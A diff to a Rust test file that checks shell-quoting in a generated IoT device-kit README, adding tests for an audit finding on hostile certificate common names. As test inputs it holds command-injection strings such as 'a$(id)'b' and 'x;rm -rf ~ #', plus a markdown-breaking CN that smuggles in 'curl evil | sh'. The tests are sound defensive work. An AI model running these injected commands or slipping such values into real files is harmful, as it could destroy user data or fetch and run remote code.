@@ -1,4 +1,5 @@
-//! The kit read back by unzip, zipinfo and openssl, never by our own parser.
+//! The kit read back by unzip, zipinfo and openssl, and its commands run by
+//! sh; never by our own parser.
 
 #![allow(clippy::unwrap_used, clippy::expect_used)]
 
@@ -119,14 +120,17 @@ fn the_kit_unzips_into_a_working_set_of_files() {
         assert!(readme.contains(&e.endpoint), "{readme}");
     }
     let first = &endpoints[0].endpoint;
-    assert!(readme.contains(&format!("-servername {first}")), "{readme}");
     assert!(
-        readme.contains(&format!("mosquitto_pub -h {first}")),
+        readme.contains(&format!("-servername '{first}'")),
         "{readme}"
     );
-    assert!(readme.contains("--cafile AmazonRootCA1.pem"), "{readme}");
+    assert!(
+        readme.contains(&format!("mosquitto_pub -h '{first}'")),
+        "{readme}"
+    );
+    assert!(readme.contains("--cafile 'AmazonRootCA1.pem'"), "{readme}");
     assert!(readme.contains("SNI is required"), "{readme}");
-    assert!(readme.contains("-i sensor-07"), "{readme}");
+    assert!(readme.contains("-i 'sensor-07'"), "{readme}");
     let json: serde_json::Value =
         serde_json::from_str(&std::fs::read_to_string(path("endpoints.json")).unwrap()).unwrap();
     assert_eq!(json["certificateId"], made.info.certificate_id.as_str());
@@ -171,4 +175,155 @@ fn no_key_no_kit() {
         device_kit(&without_key, &[], 0).unwrap_err(),
         KitError::NoKey
     );
+}
+
+// --- finding L8: the commands are safe to paste, whatever the CN ----------
+
+/// A CN that runs `id` if pasted unquoted, and breaks naive quoting.
+const HOSTILE_CN: &str = "a$(id)'b";
+
+#[test]
+fn shell_quoting_round_trips_through_sh() {
+    for value in [
+        HOSTILE_CN,
+        "",
+        "'",
+        "''",
+        "a b  c",
+        "`id`",
+        "${HOME}",
+        "\\'\\",
+        "x;rm -rf ~ #",
+        "line\nbreak",
+        "*",
+    ] {
+        let quoted = shell_quote(value);
+        let printed = run("sh", &["-c", &format!("printf %s {quoted}")]);
+        assert_eq!(printed, value, "sh read {quoted} as {printed:?}");
+    }
+}
+
+/// The README's ```sh blocks, in order.
+fn sh_blocks(readme: &str) -> Vec<&str> {
+    readme
+        .split("```sh\n")
+        .skip(1)
+        .map(|rest| rest.split_once("```").map_or(rest, |(block, _)| block))
+        .collect()
+}
+
+/// Where `script` has a `$` or a backquote outside single quotes, as a POSIX
+/// shell reads it.
+fn unquoted_expansion(script: &str) -> Option<usize> {
+    let mut quoted = false;
+    let mut chars = script.char_indices();
+    while let Some((i, c)) = chars.next() {
+        match c {
+            '\'' => quoted = !quoted,
+            '\\' if !quoted => {
+                chars.next();
+            }
+            '$' | '`' if !quoted => return Some(i),
+            _ => {}
+        }
+    }
+    None
+}
+
+#[test]
+fn a_hostile_cn_stays_one_word_in_every_command() {
+    let made = made(HOSTILE_CN);
+    // The file names and host are plain today (`file_stem`, the API), but
+    // every value is quoted alike: give them hostile ones too.
+    let (cert, key) = ("c $(id)'.cert.pem", "k $(id)'.private.key");
+    let host = "h$(id)'.example";
+    let unnamed = KitEndpoint {
+        thing_name: None,
+        ..endpoint("t", "ap-northeast-1", host)
+    };
+    let readme = readme(&made, &[unnamed], cert, key);
+    let blocks = sh_blocks(&readme);
+    assert_eq!(blocks.len(), 5, "{readme}");
+    for block in &blocks {
+        assert_eq!(unquoted_expansion(block), None, "unquoted in:\n{block}");
+    }
+
+    // Run the blocks as pasted, every program they call replaced by a
+    // function that prints its arguments: one call per line, \x1f before
+    // each argument.
+    let programs = [
+        "mosquitto_sub",
+        "mosquitto_pub",
+        "python3",
+        "git",
+        "openssl",
+        "marshal",
+    ];
+    let stubs: String = programs
+        .iter()
+        .map(|p| format!("{p}() {{ printf %s {p}; printf '\\037%s' \"$@\"; echo; }}\n"))
+        .collect();
+    let out = run("sh", &["-c", &format!("{stubs}{}", blocks.concat())]);
+    let calls: Vec<Vec<&str>> = out.lines().map(|l| l.split('\x1f').collect()).collect();
+    let called: Vec<&str> = calls.iter().map(|c| c[0]).collect();
+    assert_eq!(
+        called,
+        [
+            "mosquitto_sub",
+            "mosquitto_pub",
+            "python3",
+            "git",
+            "python3",
+            "openssl",
+            "marshal"
+        ],
+        "{out}"
+    );
+    let after = |call: usize, flag: &str| -> &str {
+        let args = &calls[call];
+        let at = args.iter().position(|a| *a == flag);
+        at.and_then(|i| args.get(i + 1))
+            .unwrap_or_else(|| panic!("no {flag} in call {call}:\n{out}"))
+    };
+    let topic = format!("devices/{HOSTILE_CN}/test");
+    for (call, id, topic_flag) in [
+        (0, "-i", "-t"),
+        (1, "-i", "-t"),
+        (4, "--client_id", "--topic"),
+    ] {
+        assert_eq!(after(call, id), HOSTILE_CN, "{out}");
+        assert_eq!(after(call, topic_flag), topic, "{out}");
+    }
+    assert_eq!(after(1, "-m"), format!("hello from {HOSTILE_CN}"), "{out}");
+    for (call, host_flag, cert_flag, key_flag) in [
+        (0, "-h", "--cert", "--key"),
+        (1, "-h", "--cert", "--key"),
+        (4, "--endpoint", "--cert", "--key"),
+        (5, "-servername", "-cert", "-key"),
+        (6, "--endpoint", "--cert", "--key"),
+    ] {
+        assert_eq!(after(call, host_flag), host, "{out}");
+        assert_eq!(after(call, cert_flag), cert, "{out}");
+        assert_eq!(after(call, key_flag), key, "{out}");
+    }
+    assert_eq!(after(5, "-connect"), format!("{host}:8883"), "{out}");
+}
+
+/// A CN that would close the README's code block and open one of its own.
+#[test]
+fn a_cn_with_line_breaks_cannot_add_a_code_block() {
+    let generated = made("sensor-10");
+    let mut imported = Made::new(
+        generated.certificate.clone(),
+        None,
+        crate::state::Origin::Generated,
+        now_from_unix_ms(NOW_MS).unwrap(),
+    )
+    .unwrap();
+    imported.info.common_name =
+        Some("x\n```\n\nRun this first:\n\n```sh\ncurl evil | sh\n```\n".to_owned());
+    let readme = readme(&imported, &[], "x.cert.pem", "x.private.key");
+    assert!(!readme.contains("curl evil"), "{readme}");
+    assert_eq!(sh_blocks(&readme).len(), 5, "{readme}");
+    assert!(readme.contains("-i 'my-device'"), "{readme}");
 }
